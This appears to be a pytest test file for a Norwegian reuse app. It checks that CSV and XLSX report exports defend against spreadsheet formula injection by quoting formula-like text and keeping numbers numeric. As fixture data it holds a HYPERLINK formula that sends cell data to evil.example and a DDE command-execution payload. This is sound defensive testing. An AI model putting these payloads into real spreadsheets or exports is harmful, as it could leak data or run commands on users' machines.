"""Every CSV and XLSX download is safe to open in a spreadsheet: text that a spreadsheet would
take for a formula (=, +, -, @, tab, CR first) is written as text with a leading single quote,
XLSX text cells are text cells, never formulas, and numbers stay numbers — negative ones too."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from reuse.models import Category, ReuseRecord, Role, Unit
from reuse.services import goals, ledger
from reuse.web.reports import exports

Y2025 = "from=2025-01-01&to=2025-12-31"

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
DANGEROUS_FIRST = ("=", "+", "-", "@", "\t", "\r")
# A number as the CSV writes it: an optional minus, digits, an optional decimal comma.
CSV_NUMBER = re.compile(r"-?\d+(,\d+)?")


@pytest.fixture
def hostile(db, people, make_user, hand_over):
    """A year of hand-overs where every free-text field a report shows starts like a formula:
    the item title, both units' names, the category, a reversal's reason and a goal's unit."""
    giver_unit = people.admin.unit
    receiver = make_user(people.kindergarten, Role.MEMBER)
    record = hand_over(people.admin, receiver, quantity=2, title=HYPERLINK,
                       new_price_nok=Decimal("100"), when=datetime(2025, 3, 1, 10, tzinfo=UTC))
    reversal = ledger.reverse(people.admin, record, "@SUM(1+1)*cmd|' /C calc'!A0")
    reversal.recorded_at = datetime(2025, 3, 2, 10, tzinfo=UTC)
    lead = make_user(giver_unit, Role.SUSTAINABILITY)
    goals.set_goal(lead, year=2025, metric="items_reused", target=Decimal("10"),
                   unit=people.kindergarten)
    db.session.commit()
    # Rows written before input was checked may hold control characters: set them directly.
    db.session.execute(update(Unit).where(Unit.id == giver_unit.id).values(name="+1+1 avd"))
    db.session.execute(update(Unit).where(Unit.id == people.kindergarten.id)
                       .values(name="\r=cmd barnehage"))
    db.session.execute(update(Category).where(Category.id == record.category_id)
                       .values(name_nb="\t-2+3 stoler"))
    db.session.execute(update(ReuseRecord).where(ReuseRecord.id == record.id)
                       .values(reason="-1+1 før"))
    db.session.commit()
    return {"lead": lead, "record": record, "reversal": reversal}


def _csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    body = response.get_data().decode("utf-8")
    return list(csv.reader(io.StringIO(body.lstrip("\ufeff"), newline=""), delimiter=";"))


def _assert_csv_safe(rows: list[list[str]]) -> None:
    for row in rows:
        for field in row:
            if field.startswith(DANGEROUS_FIRST):
                assert CSV_NUMBER.fullmatch(field), f"formula-like text field {field!r}"


def _assert_xlsx_safe(workbook) -> None:
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    assert cell.data_type in ("s", "inlineStr")
                    assert not cell.value.startswith(DANGEROUS_FIRST), \
                        f"{sheet.title}!{cell.coordinate} = {cell.value!r}"


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize("export", ["records", "summary"])
def test_no_download_holds_a_formula(client, log_in, hostile, export, kind):
    log_in(hostile["lead"])
    response = client.get(f"/reports/{export}.{kind}?{Y2025}")
    if kind == "csv":
        rows = _csv_rows(response)
        _assert_csv_safe(rows)
        text = [field for row in rows for field in row]
    else:
        assert response.status_code == 200
        workbook = load_workbook(io.BytesIO(response.get_data()))
        _assert_xlsx_safe(workbook)
        # XML reads a CR back as LF.
        text = [cell.value.replace("\n", "\r") for sheet in workbook.worksheets
                for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    # Nothing is lost: the hostile text is all there, behind its quote.
    assert any("'\r=cmd barnehage" in value for value in text)
    assert any("'+1+1 avd" in value for value in text)
    if export == "records":
        assert f"'{HYPERLINK}" in text
        assert "'@SUM(1+1)*cmd|' /C calc'!A0" in text
        assert "'\t-2+3 stoler" in text


def test_records_csv_keeps_negative_amounts_as_numbers(client, log_in, hostile):
    log_in(hostile["lead"])
    heading, *records = _csv_rows(client.get(f"/reports/records.csv?{Y2025}"))
    reversal = next(dict(zip(heading, row)) for row in records
                    if int(row[0]) == hostile["reversal"].id)
    assert reversal["Antall"] == "-2"
    assert reversal["Unngått kostnad (kr)"] == "-200,00"
    assert reversal["Årsak til korrigering"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_records_xlsx_keeps_negative_amounts_as_number_cells(client, log_in, hostile):
    log_in(hostile["lead"])
    sheet = load_workbook(io.BytesIO(client.get(f"/reports/records.xlsx?{Y2025}")
                                     .get_data()))["Føringer"]
    heading = [cell.value for cell in sheet[1]]
    rows = [dict(zip(heading, row)) for row in sheet.iter_rows(min_row=2)]
    reversal = next(row for row in rows if row["Føring"].value == hostile["reversal"].id)
    assert reversal["Antall"].data_type == "n" and reversal["Antall"].value == -2
    assert reversal["Unngått kostnad (kr)"].data_type == "n"
    assert reversal["Unngått kostnad (kr)"].value == -200
    assert reversal["Ting"].value == f"'{HYPERLINK}" and reversal["Ting"].data_type == "s"


def test_xlsx_drops_characters_a_workbook_cannot_hold(client, log_in, hostile, db):
    # A control character other than tab, CR and LF cannot be stored in XLSX at all.
    db.session.execute(update(ReuseRecord).where(ReuseRecord.id == hostile["reversal"].id)
                       .values(reason="Feil\x0b mottaker\x1b"))
    db.session.commit()
    log_in(hostile["lead"])
    response = client.get(f"/reports/records.xlsx?{Y2025}")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.get_data()))["Føringer"]
    assert "Feil mottaker" in [cell.value for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+47 55 56 60 00", "'+47 55 56 60 00"), ("-x", "'-x"),
    ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("  =1+1", "'  =1+1"),
    ("Kontorstol", "Kontorstol"), ("", ""), ("Stol = bra", "Stol = bra"),
])
def test_spreadsheet_text_quotes_what_a_spreadsheet_would_evaluate(value, written):
    assert exports.spreadsheet_text(value) == written


def test_csv_names_its_charset_once(client, log_in, hostile):
    log_in(hostile["lead"])
    for export in ("records", "summary"):
        response = client.get(f"/reports/{export}.csv?{Y2025}")
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8"


@pytest.fixture
def lead_2025(people, make_user, hand_over):
    hand_over(people.admin, people.outsider, title="#N/A",
              when=datetime(2025, 4, 1, 10, tzinfo=UTC))
    return make_user(people.admin.unit, Role.SUSTAINABILITY)


def test_xlsx_text_that_looks_like_an_error_value_stays_text(client, log_in, people, lead_2025):
    log_in(lead_2025)
    sheet = load_workbook(io.BytesIO(client.get(f"/reports/records.xlsx?{Y2025}")
                                     .get_data()))["Føringer"]
    titles = [row[6] for row in sheet.iter_rows(min_row=2)]
    assert [(cell.value, cell.data_type) for cell in titles] == [("#N/A", "s")]



@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_download_name_keeps_norwegian_letters_with_an_ascii_fallback(
        client, log_in, db, people, lead_2025, kind):
    """RFC 6266: filename* carries the real name in UTF-8; filename= spells it in ASCII."""
    db.session.execute(update(Unit).where(Unit.id == people.outsider.unit_id)
                       .values(name="Møhlenpris fritidsklubb"))
    db.session.commit()
    log_in(lead_2025)
    response = client.get(f"/reports/records.{kind}?{Y2025}&unit={people.outsider.unit_id}")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="gjenbruksfoeringer-2025-01-01-2025-12-31-'
        f'moehlenpris-fritidsklubb.{kind}"; '
        "filename*=UTF-8''gjenbruksf%C3%B8ringer-2025-01-01-2025-12-31-"
        f"m%C3%B8hlenpris-fritidsklubb.{kind}")


def test_a_plain_ascii_download_name_needs_no_fallback():
    assert exports.content_disposition("gjenbruksrapport-2025-01-01-2025-12-31.csv") == \
        'attachment; filename="gjenbruksrapport-2025-01-01-2025-12-31.csv"'
